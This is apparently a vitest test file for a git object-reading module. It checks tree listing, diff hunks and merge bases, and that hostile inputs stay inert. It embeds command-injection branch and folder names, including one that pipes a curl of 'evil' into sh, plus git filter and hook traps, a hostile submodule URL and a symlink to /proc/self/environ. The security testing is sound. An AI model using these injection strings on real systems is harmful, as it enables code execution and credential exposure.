import { existsSync } from "node:fs";
import { chmod, rename, rm, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { expect, onTestFinished, test } from "vitest";
import { findWorkTree, type HostGit, openGit } from "../../src/host/git-objects.ts";
import { commitAll, git, makeRepository, makeScratch, writeFiles } from "./scratch.ts";

const LIMIT = 1000;

function open(root: string, folder?: string): HostGit {
  const opened = openGit({
    place: { workTree: root },
    ...(folder === undefined ? {} : { folder }),
  });
  onTestFinished(opened.close);
  return opened;
}

function textOf(content: {
  readonly kind: string;
  readonly bytes?: Uint8Array;
}): string | undefined {
  return content.bytes && new TextDecoder().decode(content.bytes);
}

test("a tree is listed bytewise with modes and sizes, and read from objects, not from the checkout", async () => {
  const { root } = await makeRepository({ "b/SKILL.md": "hello\n", "a.txt": "", "b.txt": "1" });
  await writeFile(join(root, "run.sh"), "#!/bin/sh\n");
  await chmod(join(root, "run.sh"), 0o755);
  await symlink("a.txt", join(root, "link"));
  const commit = await commitAll(root);
  await rm(join(root, "b"), { recursive: true });
  const tree = open(root).tree(commit);
  expect(await tree.list()).toEqual([
    { path: "a.txt", mode: "100644", size: 0 },
    { path: "b.txt", mode: "100644", size: 1 },
    { path: "b/SKILL.md", mode: "100644", size: 6 },
    { path: "link", mode: "120000", size: 5 },
    { path: "run.sh", mode: "100755", size: 10 },
  ]);
  expect(textOf(await tree.read("b/SKILL.md", LIMIT))).toBe("hello\n");
  expect(textOf(await tree.read("a.txt", 0))).toBe("");
  expect(await tree.read("b/SKILL.md", 5)).toEqual({ kind: "too-large", size: 6, limit: 5 });
  expect(await tree.read("b", LIMIT)).toEqual({ kind: "missing" });
  expect(await tree.read("../a.txt", LIMIT)).toEqual({ kind: "missing" });
});

test("many files are read at once, large and small, each its own", async () => {
  const files = Object.fromEntries(
    Array.from({ length: 300 }, (_, at) => [`f${at}`, `${at}\n`.repeat(at % 7 === 0 ? 20_000 : 3)]),
  );
  const { root, commit } = await makeRepository(files);
  const tree = open(root).tree(commit);
  const texts = await Promise.all(
    Object.keys(files).map(async (path) => [path, textOf(await tree.read(path, 1_000_000))]),
  );
  expect(Object.fromEntries(texts)).toEqual(files);
});

test("EV-3: hostile folder and branch names are data", async () => {
  const names = [
    "$(touch pwned)",
    "-rf",
    "a\nb",
    "ünï",
    '"q"',
    "a\tb",
    "*",
    ":(glob)x",
    "--upload-pack=touch pwned",
  ];
  const { root, commit: base } = await makeRepository({ "README.md": "x" });
  await writeFiles(
    root,
    Object.fromEntries(names.map((name) => [`skills/${name}/SKILL.md`, `${name}\n`])),
  );
  const branch = ["dev$(", "{curl,-s,evil}", "$", "{IFS}|sh)"].join("");
  await git(root, "switch", "-q", "-c", branch);
  const head = await commitAll(root);
  const opened = open(root);
  const paths = names.map((name) => `skills/${name}/SKILL.md`).sort();
  const tree = opened.tree(head);

  expect(await opened.resolve(branch)).toBe(head);
  expect(
    (await tree.list())
      .map((entry) => entry.path)
      .filter((path) => path !== "README.md")
      .sort(),
  ).toEqual(paths);
  for (const name of names) {
    expect(textOf(await tree.read(`skills/${name}/SKILL.md`, LIMIT))).toBe(`${name}\n`);
    expect(await opened.hunks(base, head, [`skills/${name}`])).toEqual([
      expect.objectContaining({
        path: `skills/${name}/SKILL.md`,
        baseLine: 0,
        removed: [],
        headLine: 1,
      }),
    ]);
  }
  expect((await opened.changedPaths(base, head))?.map((change) => change.path).sort()).toEqual(
    paths,
  );
  for (const name of [
    "--help",
    "-x",
    "",
    "HEAD\0",
    "nosuch",
    "--output=pwned",
    "@{-1}; touch pwned",
  ]) {
    expect(await opened.resolve(name)).toBeNull();
  }
  expect(existsSync(join(root, "pwned"))).toBe(false);
  expect(existsSync("pwned")).toBe(false);
});

test("EV-3: a name that is no UTF-8 is listed with its bytes and refused, and hides no other file", async () => {
  const { root } = await makeRepository({ "a\ufffd": "other", "a\\xff": "spelled alike" });
  await writeFile(Buffer.concat([Buffer.from(`${root}/a`), Buffer.of(0xff)]), "bytes");
  const tree = open(root).tree(await commitAll(root));
  expect((await tree.list()).map((entry) => entry.path)).toEqual(["a\\xff", "a\ufffd"]);
  expect(await tree.read("a\\xff", LIMIT)).toEqual({
    kind: "refused",
    reason: "has a name that is not UTF-8",
  });
  expect(textOf(await tree.read("a\ufffd", LIMIT))).toBe("other");
});

/** Settings and hooks that would run a command in a checkout; a commit with a submodule and a link to follow. */
async function setTraps(root: string, base: string): Promise<string> {
  const evil = `touch ${root}/pwned; cat`;
  const settings = ["filter.evil.smudge", "filter.evil.clean", "diff.evil.textconv"];
  const others = ["diff.evil.command", "diff.external", "core.fsmonitor"];
  for (const name of [...settings, ...others]) await git(root, "config", name, evil);
  await writeFiles(root, { ".git/hooks/post-index-change": `#!/bin/sh\n${evil}\n` });
  await chmod(join(root, ".git/hooks/post-index-change"), 0o755);
  const modules = '[submodule "x"]\n\tpath = x\n\turl = http://127.0.0.1:1/evil\n';
  const entries = [
    `100644,${await writeBlob(root, modules)},.gitmodules`,
    `160000,${"1".repeat(40)},x`,
    `120000,${await writeBlob(root, "/proc/self/environ")},skills/b/SKILL.md`,
  ];
  const quiet = ["-c", "core.fsmonitor=false", "-c", "core.hooksPath=/dev/null"];
  for (const entry of entries) {
    await git(root, ...quiet, "update-index", "--add", "--cacheinfo", entry);
  }
  const tree = await git(root, ...quiet, "write-tree");
  await rm(join(root, "pwned"), { force: true });
  return git(root, "commit-tree", tree, "-p", base, "-m", "x");
}

async function writeBlob(root: string, text: string): Promise<string> {
  const file = join(root, ".git", "blob");
  await writeFile(file, text);
  return git(root, "hash-object", "-w", "--no-filters", file);
}

test("EV-9: no filter, no hook, no submodule, no link: nothing runs, nothing is followed", async () => {
  const { root, commit: base } = await makeRepository({
    ".gitattributes": "* filter=evil diff=evil\n",
    "skills/a/SKILL.md": "plain\n",
  });
  const head = await setTraps(root, base);
  const opened = open(root);
  const tree = opened.tree(head);
  expect(textOf(await tree.read("skills/a/SKILL.md", LIMIT))).toBe("plain\n");
  expect(await tree.read("skills/b/SKILL.md", LIMIT)).toEqual({
    kind: "link",
    target: "/proc/self/environ",
  });
  expect(await tree.read("x", LIMIT)).toEqual({ kind: "refused", reason: "is a submodule" });
  expect(await opened.changedPaths(base, head)).toHaveLength(3);
  expect(await opened.hunks(base, head, ["."])).toHaveLength(3);
  expect(existsSync(join(root, "pwned"))).toBe(false);
});

test("changed paths without renames, hunks with their lines on both sides", async () => {
  const { root, commit: base } = await makeRepository({
    "s/SKILL.md": "one\ntwo\nthree\nfour\n",
    "s/old name.md": "same\n",
    "s/gone.md": "-- a\n@@ -1 +1 @@\nlast without end",
    "t/other.md": "x\n",
  });
  await writeFiles(root, { "s/SKILL.md": "one\n2\n2b\nfour\n", "t/other.md": "y\n" });
  await rename(join(root, "s/old name.md"), join(root, "s/new name.md"));
  await rm(join(root, "s/gone.md"));
  const head = await commitAll(root);
  const opened = open(root);
  expect(await opened.changedPaths(base, head)).toEqual([
    { path: "s/SKILL.md", status: "modified" },
    { path: "s/gone.md", status: "removed" },
    { path: "s/new name.md", status: "added" },
    { path: "s/old name.md", status: "removed" },
    { path: "t/other.md", status: "modified" },
  ]);
  expect(await opened.hunks(base, head, ["s"])).toEqual([
    { path: "s/SKILL.md", baseLine: 2, removed: ["two", "three"], headLine: 2, added: ["2", "2b"] },
    {
      path: "s/gone.md",
      baseLine: 1,
      removed: ["-- a", "@@ -1 +1 @@", "last without end"],
      headLine: 0,
      added: [],
    },
    { path: "s/new name.md", baseLine: 0, removed: [], headLine: 1, added: ["same"] },
    { path: "s/old name.md", baseLine: 1, removed: ["same"], headLine: 0, added: [] },
  ]);
  expect(await opened.hunks(base, head, [])).toEqual([]);
  expect(await opened.changedPaths(base, "0".repeat(40))).toBeNull();
});

test("a folder of the repository as root: paths are relative to it, and it may be missing", async () => {
  const { root, commit: base } = await makeRepository({ "kit/s/a.md": "1\n", "other/b.md": "1\n" });
  await writeFiles(root, { "kit/s/a.md": "2\n", "other/b.md": "2\n" });
  const head = await commitAll(root);
  const opened = open(root, "kit");
  expect((await opened.tree(head).list()).map((entry) => entry.path)).toEqual(["s/a.md"]);
  expect(textOf(await opened.tree(base).read("s/a.md", LIMIT))).toBe("1\n");
  expect(await opened.changedPaths(base, head)).toEqual([{ path: "s/a.md", status: "modified" }]);
  expect((await opened.hunks(base, head, ["s"])).map((hunk) => hunk.path)).toEqual(["s/a.md"]);
  expect((await opened.hunks(base, head, ["."])).map((hunk) => hunk.path)).toEqual(["s/a.md"]);
  expect(await open(root, "nosuch").tree(head).list()).toEqual([]);
  await expect(open(root).tree("1".repeat(40)).list()).rejects.toThrow("git ls-tree");
});

test("parents, merge base and the newest commits", async () => {
  const { root, commit: first } = await makeRepository({ a: "1" });
  await git(root, "switch", "-q", "-c", "side");
  await writeFiles(root, { side: "1" });
  const side = await commitAll(root);
  await git(root, "switch", "-q", "main");
  await writeFiles(root, { second: "1" });
  const second = await commitAll(root);
  await git(root, "merge", "-q", "--no-ff", "-m", "m", "side");
  const opened = open(root);
  const merge = (await opened.resolve("HEAD")) ?? "";
  expect(await opened.parents(merge)).toEqual([second, side]);
  expect(await opened.mergeBase(second, side)).toBe(first);
  expect(await opened.newestCommits(merge, 2)).toEqual([merge, second]);
  expect(await opened.parents(first)).toEqual([]);
});

test("git's own variables and another owner do not lead astray", async () => {
  const { root, commit } = await makeRepository({ a: "1" });
  const before = process.env["GIT_DIR"];
  process.env["GIT_DIR"] = "/nonexistent";
  onTestFinished(() => {
    if (before === undefined) delete process.env["GIT_DIR"];
    else process.env["GIT_DIR"] = before;
  });
  expect(await open(root).resolve("main")).toBe(commit);
  expect(await findWorkTree(root)).toBe(root);
  expect(await findWorkTree(await makeScratch())).toBeNull();
});
